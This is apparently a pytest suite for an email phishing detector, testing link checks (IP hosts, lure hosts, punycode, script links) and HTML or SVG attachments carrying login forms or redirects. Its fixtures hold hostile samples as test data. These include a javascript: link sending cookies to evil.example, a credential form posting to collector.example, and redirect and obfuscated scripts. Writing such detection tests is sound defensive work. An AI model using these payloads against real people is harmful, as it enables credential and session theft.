"""Issue 13: where links really lead (raw IPs, punycode, free hosting and form builders,
script links) and attached web pages that carry a login form or a redirect."""

from __future__ import annotations

from email.message import EmailMessage

import pytest

from guard.mail import SCRIPT_HREF_CHARS, parse_message
from guard.policy import evaluate, load_rules
from guard.policy.structural import ip_of_host, run_checks


@pytest.fixture(scope="module")
def rules():
    return load_rules()


def html_mail(body_html: str, *, sender: str = "Mara Quill <mara@quill-design.example>"):
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "me@freelancer.example"
    msg["Subject"] = "Files for the brochure"
    msg.set_content("See the HTML version.")
    msg.add_alternative(f"<html><body>{body_html}</body></html>", subtype="html")
    return parse_message(msg.as_bytes())


def checks(rules, msg) -> set[str]:
    return {hit.check for hit in run_checks(rules.structural, msg)}


# (check, fires, link text, hrefs): each href in an HTML mail from a client, as the link
# of that text; the check must fire on it, or (a near miss) must not.
LINKS = [
    (
        "phishing.ip-host",
        True,
        "Open the invoice",
        [
            "http://45.61.137.22/login.php",
            "https://8.8.4.4/verify",
            "http://134744072/secure",  # 8.8.8.8 as one decimal number
            "http://0x08080808/secure",
            "http://010.010.010.010/secure",  # octal
            "http://[2606:4700:4700::1111]/account",
        ],
    ),
    (
        "phishing.ip-host",
        False,
        "Open",
        [
            "https://quill-design.example/brochure",
            "http://192.168.1.20/printer",  # a private address: nobody outside serves from it
            "http://127.0.0.1:8000/",
            "1.2.3",  # a relative link that only looks numeric
            "https://v1.2.3.example/docs",
        ],
    ),
    (
        "phishing.lure-host",
        True,
        "Review the document",
        [
            "https://invoice-portal-4471.firebaseapp.com/view",
            "https://pub-9f2c.r2.dev/secure/index.html",
            "https://docs.google.com/forms/d/e/1FAIpQLSe/viewform",
            "https://forms.gle/AbCdEf123",
            "https://storage.googleapis.com/bucket-77/review.html",
            "https://gateway.example.net/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi",
        ],
    ),
    (
        "phishing.lure-host",
        False,
        "Preview",
        [
            "https://docs.google.com/document/d/1xYz/edit",  # a shared doc, not a form
            "https://mara.github.io/portfolio/",  # ordinary developer hosting: not listed
            "https://brochure-preview.vercel.app/",
            "https://notweb.app.example.com/",
        ],
    ),
    (
        "phishing.script-link",
        True,
        "View statement",
        [
            "javascript:document.location='https://evil.example/'+document.cookie",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            " JaVa&#x09;ScRiPt:alert(1)",
            "vbscript:msgbox(1)",
        ],
    ),
    (
        "phishing.script-link",
        False,
        "Menu",
        ["javascript:void(0)", "javascript:;", "data:image/png;base64,iVBORw0KGgo=", "#top"],
    ),
]


@pytest.mark.parametrize(
    ("check", "fires", "text", "href"),
    [
        pytest.param(check, fires, text, href, id=f"{check}-{'fires' if fires else 'quiet'}-{i}")
        for check, fires, text, hrefs in LINKS
        for i, href in enumerate(hrefs)
    ],
)
def test_link_check_fires_or_near_miss_does_not(rules, check, fires, text, href):
    msg = html_mail(f'<a href="{href}">{text}</a>')
    assert (check in checks(rules, msg)) is fires


def test_ip_of_host_reads_browser_forms():
    assert str(ip_of_host("0xc0.0xa8.1.1")) == "192.168.1.1"
    assert str(ip_of_host("3232235777")) == "192.168.1.1"
    assert ip_of_host("example.com") is None
    assert ip_of_host("256.1.1.1") is None
    assert ip_of_host("09.1.1.1") is None  # 9 is not an octal digit


def test_punycode_host_is_supporting(rules):
    msg = html_mail('<a href="https://xn--bcher-kva.example/shop">Shop</a>')
    assert "phishing.punycode-host" in checks(rules, msg)
    assert evaluate(rules, msg).risk == "none"  # alone it never flags
    plain = html_mail('<a href="https://buecher.example/shop">Shop</a>')
    assert "phishing.punycode-host" not in checks(rules, plain)


def test_lure_host_counts_only_next_to_a_real_finding(rules):
    alone = html_mail('<a href="https://acme-login.web.app/">Sign in</a>')
    assert evaluate(rules, alone).risk == "none"
    with_ip = html_mail(
        '<a href="https://acme-login.web.app/">Sign in</a><a href="http://45.61.137.9/x">x</a>'
    )
    verdict = evaluate(rules, with_ip)
    assert {"phishing.lure-host", "phishing.ip-host"} <= {f.rule for f in verdict.findings}
    assert verdict.risk != "none"


def test_parser_keeps_script_hrefs_bounded():
    payload = "A" * 50_000
    msg = html_mail(f'<a href="data:text/html;base64,{payload}">Open</a>')
    (link,) = msg.links
    assert link.href.startswith("data:text/html;base64,AAAA")
    assert len(link.href) == SCRIPT_HREF_CHARS


LOGIN_PAGE = b"""<!DOCTYPE html><html><head><title>Document</title></head><body>
<form method="post" action="https://collector.example/p.php">
<input type="email" name="u"><input type='password' name="p"><button>View</button>
</form></body></html>"""
REDIRECT_PAGE = b"""<html><body><script>
window.location.href = "https://collector.example/?e=" + "me@freelancer.example";
</script></body></html>"""
SMUGGLED_PAGE = b"""<html><body><script>document.write(atob("PGZvcm0+"))</script></body></html>"""
META_REFRESH = b"""<html><head><meta http-equiv="refresh" content="0;url=https://x.example/">
</head></html>"""
NEWSLETTER = b"""<html><head><style>p{color:#333}</style></head><body><h1>Studio news</h1>
<p>Our autumn schedule is out. <a href="https://quill-design.example/news">Read more</a></p>
</body></html>"""


def with_attachment(data: bytes, filename: str, subtype: str = "html"):
    msg = EmailMessage()
    msg["From"] = "Accounts <accounts@quill-design.example>"
    msg["To"] = "me@freelancer.example"
    msg["Subject"] = "Remittance advice"
    msg.set_content("Please find the remittance advice attached.")
    msg.add_attachment(data, maintype="text", subtype=subtype, filename=filename)
    return parse_message(msg.as_bytes())


@pytest.mark.parametrize(
    ("data", "trait"),
    [
        (LOGIN_PAGE, "password"),
        (REDIRECT_PAGE, "redirect"),
        (SMUGGLED_PAGE, "obfuscated"),
        (META_REFRESH, "redirect"),
    ],
)
def test_html_form_attachment_fires(rules, data, trait):
    msg = with_attachment(data, "Remittance_0412.html")
    (att,) = msg.attachments
    assert trait in att.html_traits
    found = checks(rules, msg)
    assert {"phishing.html-form-attachment", "phishing.html-attachment"} <= found
    assert evaluate(rules, msg).risk in ("medium", "high")


def test_html_newsletter_attachment_is_not_a_form(rules):
    msg = with_attachment(NEWSLETTER, "newsletter.html")
    assert msg.attachments[0].html_traits == ()
    found = checks(rules, msg)
    assert "phishing.html-attachment" in found
    assert "phishing.html-form-attachment" not in found


def test_html_traits_read_big_pages_head_and_tail(rules):
    padding = b"<!-- " + b"x" * 3_000_000 + b" -->"
    msg = with_attachment(b"<html><body>" + padding + LOGIN_PAGE, "statement.htm")
    assert "password" in msg.attachments[0].html_traits
    assert "phishing.html-form-attachment" in checks(rules, msg)


def test_svg_with_redirect_script(rules):
    svg = b"""<svg xmlns="http://www.w3.org/2000/svg"><script>
    location.replace("https://collector.example/")</script></svg>"""
    msg = with_attachment(svg, "Voice_Message.svg", subtype="plain")
    assert "phishing.html-form-attachment" in checks(rules, msg)
